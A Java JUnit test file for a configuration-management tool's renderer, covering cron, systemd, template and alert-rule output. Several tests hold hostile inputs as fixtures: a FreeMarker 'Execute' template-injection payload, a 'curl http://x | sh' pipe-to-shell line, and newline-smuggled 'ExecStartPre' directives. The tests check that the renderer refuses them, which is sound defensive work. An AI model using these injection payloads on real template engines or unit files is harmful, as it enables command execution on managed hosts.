package dev.trueup.driver.host.model;

import static org.assertj.core.api.Assertions.assertThat;

import dev.trueup.backend.Renderer;
import dev.trueup.model.DesiredState;
import dev.trueup.model.EnvValue;
import dev.trueup.model.Node;
import dev.trueup.model.SecretRef;
import dev.trueup.model.cron.CronDialect;
import dev.trueup.observe.ObservationRequest;
import dev.trueup.render.DesiredNode;
import dev.trueup.render.DesiredResource.DesiredFile;
import dev.trueup.render.DesiredResource.DesiredUnit;
import dev.trueup.render.Marker;
import dev.trueup.render.RenderError;
import dev.trueup.render.RepoFiles;
import dev.trueup.testing.Golden;
import dev.trueup.testing.ProjectRoot;
import dev.trueup.testing.fixtures.ExampleFleet;
import dev.trueup.testing.fixtures.Nodes;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

class RendererTest {
  private static final Path GOLDEN =
      ProjectRoot.module().resolve("src/test/resources/golden/render");
  private static DesiredState example;
  private static Renderer exampleRenderer;

  @BeforeAll
  static void loadExample() {
    Path repo = ProjectRoot.resolve("desired-state");
    example = ExampleFleet.load();
    exampleRenderer = new Renderer(RepoFiles.directory(repo));
  }

  private static Renderer inMemory(Map<String, String> files) {
    return new Renderer(
        path -> Optional.ofNullable(files.get(path)).map(s -> s.getBytes(StandardCharsets.UTF_8)));
  }

  private static String text(DesiredNode node, String path) {
    return ((DesiredFile) node.find(path).orElseThrow()).text();
  }

  @Test
  void everyExampleNodeRendersWithoutErrors() {
    for (Node node : example.nodes().values()) {
      DesiredNode desired = exampleRenderer.render(node, example);
      assertThat(desired.errors()).as(node.name()).isEmpty();
      assertThat(desired.resources()).as(node.name()).isNotEmpty();
    }
  }

  @Test
  void exampleCronFileMatchesGolden() {
    DesiredNode aurora = exampleRenderer.render(example.nodes().get("aurora"), example);
    String cron = text(aurora, "/etc/cron.d/trueup-weekly-backup");
    assertThat(cron).startsWith(Marker.LINE + "\n");
    Golden.assertMatches(GOLDEN.resolve("aurora-cron-weekly-backup.txt"), cron);
  }

  @Test
  void exampleAlertRulesMatchGolden() {
    DesiredNode aurora = exampleRenderer.render(example.nodes().get("aurora"), example);
    String rules = text(aurora, "/etc/prometheus/rules/trueup-aurora.yml");
    assertThat(rules).startsWith(Marker.LINE + "\n");
    Golden.assertMatches(GOLDEN.resolve("aurora-alert-rules.yml"), rules);
  }

  @Test
  void exampleTemplateRendersNodeAndVars() {
    DesiredNode aurora = exampleRenderer.render(example.nodes().get("aurora"), example);
    Golden.assertMatches(GOLDEN.resolve("aurora-app.env"), text(aurora, "/etc/aurora/app.env"));
  }

  @Test
  void exampleSystemdServiceMatchesGolden() {
    Node gpu =
        example.nodes().values().stream()
            .filter(n -> n.services().containsKey("ollama"))
            .findFirst()
            .orElseThrow();
    DesiredNode desired = exampleRenderer.render(gpu, example);
    assertThat(desired.find("ollama.service")).containsInstanceOf(DesiredUnit.class);
    Golden.assertMatches(
        GOLDEN.resolve("ollama.service"), text(desired, "/etc/systemd/system/ollama.service"));
  }

  @Test
  void renderingTwiceGivesEqualNodes() {
    Node aurora = example.nodes().get("aurora");
    assertThat(exampleRenderer.render(aurora, example))
        .isEqualTo(exampleRenderer.render(aurora, example));
  }

  @Test
  void resourcesAreInPlanOrder() {
    DesiredNode aurora = exampleRenderer.render(example.nodes().get("aurora"), example);
    assertThat(aurora.resources())
        .isSortedAccordingTo(DesiredNode.ORDER)
        .first()
        // The lead's unattended-upgrades: packages come before everything they may bring.
        .isInstanceOf(HostSetupResource.DesiredPackage.class);
  }

  @Test
  void templatesHaveDigestEncodingQuotingAndASplayThatIsStablePerNode() {
    String template =
        String.join(
            "\n",
            "sha=${fn.sha256(\"abc\")}",
            "b64=${fn.base64(\"héllo\")}",
            "sh=${fn.shell(\"it's $HOME\")}",
            "yaml=${fn.yaml(\"a \\\"b\\\"\\nc\")}",
            "json=${fn.json(\"tab\\there\")}",
            "ini=${fn.ini(\"x=\\\"y\\\"\")}",
            "minute=${fn.splay(60)}",
            "");
    Node alpha = Nodes.node("alpha").template("/etc/app.conf", "templates/f.ftl", Map.of()).build();
    Node beta = Nodes.node("beta").template("/etc/app.conf", "templates/f.ftl", Map.of()).build();
    Renderer r = inMemory(Map.of("templates/f.ftl", template));
    String a = text(r.render(alpha, Nodes.fleet(alpha)), "/etc/app.conf");
    assertThat(a)
        .contains("sha=ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad\n")
        .contains("b64=aMOpbGxv\n")
        .contains("sh='it'\\''s $HOME'\n")
        .contains("yaml=\"a \\\"b\\\"\\nc\"\n")
        .contains("json=\"tab\\there\"\n")
        .contains("ini=\"x=\\\"y\\\"\"\n");
    assertThat(text(r.render(alpha, Nodes.fleet(alpha)), "/etc/app.conf"))
        .as("the same node, the same minute")
        .isEqualTo(a);
    long minute = Long.parseLong(a.replaceAll("(?s).*minute=(\\d+).*", "$1"));
    assertThat(minute).isBetween(0L, 59L);
    java.util.Set<String> minutes = new java.util.HashSet<>();
    for (String name : List.of("alpha", "beta", "gamma", "delta", "epsilon", "zeta")) {
      Node n = Nodes.node(name).template("/etc/app.conf", "templates/f.ftl", Map.of()).build();
      String t = text(r.render(n, Nodes.fleet(n)), "/etc/app.conf");
      minutes.add(t.replaceAll("(?s).*minute=(\\d+).*", "$1"));
    }
    assertThat(minutes).as("spread over nodes").hasSizeGreaterThan(1);
  }

  @Test
  void aFunctionCalledWrongFailsTheRenderNamingIt() {
    Node node = Nodes.node("alpha").template("/etc/app.conf", "templates/f.ftl", Map.of()).build();
    DesiredNode desired =
        inMemory(Map.of("templates/f.ftl", "m=${fn.splay(0)}\n")).render(node, Nodes.fleet(node));
    assertThat(desired.errors())
        .singleElement()
        .satisfies(e -> assertThat(e.message()).contains("fn.splay"));
  }

  @Test
  void templateErrorIsAValueNamingTemplateLineAndColumn() {
    Node node = Nodes.node("alpha").template("/etc/app.env", "templates/app.ftl", Map.of()).build();
    DesiredNode desired =
        inMemory(Map.of("templates/app.ftl", "A=1\nPORT=${vars.port}\n"))
            .render(node, Nodes.fleet(node));
    assertThat(desired.find("/etc/app.env")).isEmpty();
    assertThat(desired.errors()).hasSize(1);
    RenderError error = desired.errors().getFirst();
    assertThat(error.path()).contains("/etc/app.env");
    assertThat(error.message()).startsWith("template templates/app.ftl, line 2, column 8: ");
  }

  @Test
  void templateSyntaxErrorIsAValue() {
    Node node = Nodes.node("alpha").template("/etc/app.env", "templates/app.ftl", Map.of()).build();
    DesiredNode desired =
        inMemory(Map.of("templates/app.ftl", "<#if>\n")).render(node, Nodes.fleet(node));
    assertThat(desired.errors().getFirst().message())
        .startsWith("template templates/app.ftl, line 1");
  }

  /** A file must come out the same at every run: vars iterate in the order they were written. */
  @Test
  void varsIterateInTheOrderTheyWereWritten() {
    Map<String, Object> vars = new java.util.LinkedHashMap<>();
    for (String key :
        "zulu yankee x-ray whiskey victor uniform tango sierra romeo quebec".split(" ")) {
      vars.put(key, key.length());
    }
    Node node = Nodes.node("alpha").template("/etc/app.env", "templates/app.ftl", vars).build();
    DesiredNode desired =
        inMemory(Map.of("templates/app.ftl", "<#list vars as k, v>${k}=${v}\n</#list>"))
            .render(node, Nodes.fleet(node));
    assertThat(text(desired, "/etc/app.env").lines().map(l -> l.substring(0, l.indexOf('='))))
        .containsExactlyElementsOf(vars.keySet());
  }

  @Test
  void valuesAreDataNotTemplates() {
    Node node =
        Nodes.node("alpha")
            .template(
                "/etc/app.env",
                "templates/app.ftl",
                Map.of("greeting", "${node.name} <#assign x=1>", "n", 12345))
            .build();
    DesiredNode desired =
        inMemory(Map.of("templates/app.ftl", "G=${vars.greeting}\nN=${vars.n}\n"))
            .render(node, Nodes.fleet(node));
    assertThat(text(desired, "/etc/app.env")).isEqualTo("G=${node.name} <#assign x=1>\nN=12345\n");
  }

  @Test
  void classInstantiationAndApiAreRefused() {
    Node node = Nodes.node("alpha").template("/etc/app.env", "templates/app.ftl", Map.of()).build();
    String evil = "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}\n";
    DesiredNode desired =
        inMemory(Map.of("templates/app.ftl", evil)).render(node, Nodes.fleet(node));
    assertThat(desired.errors()).hasSize(1);
    assertThat(desired.errors().getFirst().message()).contains("line 1");
  }

  @Test
  void missingSourceIsAnError() {
    Node node =
        Nodes.node("alpha")
            .file("/etc/motd", new dev.trueup.model.FileContent.Source("files/none"), "0644")
            .build();
    DesiredNode desired = inMemory(Map.of()).render(node, Nodes.fleet(node));
    assertThat(desired.errors().getFirst().message()).contains("files/none");
  }

  @Test
  void cronCarriesTimeZoneAndEscapesPercent() {
    Node node =
        Nodes.node("alpha")
            .schedule("stamp", "0 6 * * *", CronDialect.CRON, "Europe/Berlin", "date +%F")
            .build();
    String cron =
        text(inMemory(Map.of()).render(node, Nodes.fleet(node)), "/etc/cron.d/trueup-stamp");
    assertThat(cron)
        .contains("CRON_TZ=Europe/Berlin\n")
        .endsWith("0 6 * * * root date +\\%F\n")
        .contains("# schedule stamp, declared in nodes/alpha.yaml\n")
        .doesNotContain(":40:3");
  }

  @Test
  void systemdDialectBecomesATimer() {
    Node node =
        Nodes.node("alpha")
            .schedule("nightly", "*-*-* 02:00:00", CronDialect.SYSTEMD, "UTC", "echo $HOME")
            .build();
    DesiredNode desired = inMemory(Map.of()).render(node, Nodes.fleet(node));
    assertThat(text(desired, "/etc/systemd/system/trueup-nightly.timer"))
        .contains("OnCalendar=*-*-* 02:00:00 UTC");
    assertThat(text(desired, "/etc/systemd/system/trueup-nightly.service"))
        .contains("ExecStart=/bin/sh -c \"echo $$HOME\"");
    assertThat(desired.find("trueup-nightly.timer")).isPresent();
  }

  @Test
  void secretEnvGoesToASecretBearingFile() {
    Node node =
        Nodes.node("alpha")
            .systemdService(
                "api",
                "api.service",
                Map.of(
                    "LOG",
                    EnvValue.literal("info"),
                    "TOKEN",
                    new EnvValue.Secret(new SecretRef("api/token"))))
            .build();
    DesiredNode desired = inMemory(Map.of()).render(node, Nodes.fleet(node));
    DesiredFile env = (DesiredFile) desired.find("/etc/trueup/env/api.service.env").orElseThrow();
    assertThat(env.secretBearing()).isTrue();
    assertThat(text(desired, "/etc/systemd/system/api.service"))
        .contains("Environment=\"LOG=info\"")
        .contains("EnvironmentFile=/etc/trueup/env/api.service.env")
        .doesNotContain("TOKEN");
  }

  @Test
  void aLineBreakThatReachesTheRendererIsRefusedNotWritten() {
    // Validation refuses these; the renderer is the second lock for values built another way.
    Node node =
        Nodes.node("alpha")
            .schedule("cr", "0 6 * * *", "curl http://x | sh\r/bin/true")
            .schedule(
                "nl", "*-*-* 02:00:00", CronDialect.SYSTEMD, "UTC", "true\nExecStartPre=+/bin/id")
            .systemdService(
                "api",
                "api.service",
                Map.of("MODE", EnvValue.literal("fast\nExecStartPre=+/bin/sh -c id")))
            .build();
    DesiredNode desired = inMemory(Map.of()).render(node, Nodes.fleet(node));
    assertThat(desired.find("/etc/cron.d/trueup-cr")).isEmpty();
    assertThat(desired.find("/etc/systemd/system/trueup-nl.service")).isEmpty();
    assertThat(desired.find("/etc/systemd/system/api.service")).isEmpty();
    assertThat(desired.errors())
        .extracting(RenderError::path, RenderError::message)
        .contains(
            org.assertj.core.groups.Tuple.tuple(
                Optional.of("/etc/cron.d/trueup-cr"),
                "not written: command contains a line break (carriage return) and would not stay"
                    + " on its line"),
            org.assertj.core.groups.Tuple.tuple(
                Optional.of("/etc/systemd/system/trueup-nl.service"),
                "not written: exec contains a line break (newline) and would not stay on its"
                    + " line"),
            org.assertj.core.groups.Tuple.tuple(
                Optional.of("/etc/systemd/system/api.service"),
                "not written: environment[0] contains a line break (newline) and would not stay"
                    + " on its line"));
  }

  @Test
  void aTabStaysOnItsLine() {
    Node node = Nodes.node("alpha").schedule("tab", "0 6 * * *", "printf 'a\tb'").build();
    DesiredNode desired = inMemory(Map.of()).render(node, Nodes.fleet(node));
    assertThat(desired.errors()).isEmpty();
    assertThat(text(desired, "/etc/cron.d/trueup-tab")).endsWith("root printf 'a\tb'\n");
  }

  @Test
  void sandboxFilesHaveNoOwner() {
    Node node =
        Nodes.node("alpha")
            .sandbox("/tmp/x")
            .alert("cpu_percent", 80, 95, Duration.ofMinutes(5))
            .build();
    DesiredFile rules =
        (DesiredFile)
            inMemory(Map.of())
                .render(node, Nodes.fleet(node))
                .find("/etc/prometheus/rules/trueup-alpha.yml")
                .orElseThrow();
    assertThat(rules.owner()).isEmpty();
    assertThat(rules.text())
        .contains(
            "expr: \"(100 * (1 - avg(rate(node_cpu_seconds_total{node=\\\"alpha\\\","
                + "mode=\\\"idle\\\"}[5m])))) > 80\"");
  }

  @Test
  void requestNamesEveryPathUnitAndManagedDirectory() {
    Node node =
        Nodes.node("alpha")
            .directory("/opt/a", "0755")
            .schedule("tick", "* * * * *", "true")
            .systemdService("api", "api.service", Map.of())
            .build();
    ObservationRequest request =
        Renderer.request(inMemory(Map.of()).render(node, Nodes.fleet(node)));
    assertThat(request.paths())
        .containsExactly(
            "/etc/cron.d/trueup-tick",
            // The crontabs a cron schedule could be running twice from (CronDuplicates).
            "/etc/crontab",
            "/etc/systemd/system/api.service",
            "/opt/a",
            "/var/spool/cron/crontabs/root",
            "/var/spool/cron/root");
    assertThat(request.units()).containsExactly("api.service");
    assertThat(request.managedDirectories())
        .containsExactlyInAnyOrderElementsOf(Marker.MANAGED_DIRECTORIES);
  }
}
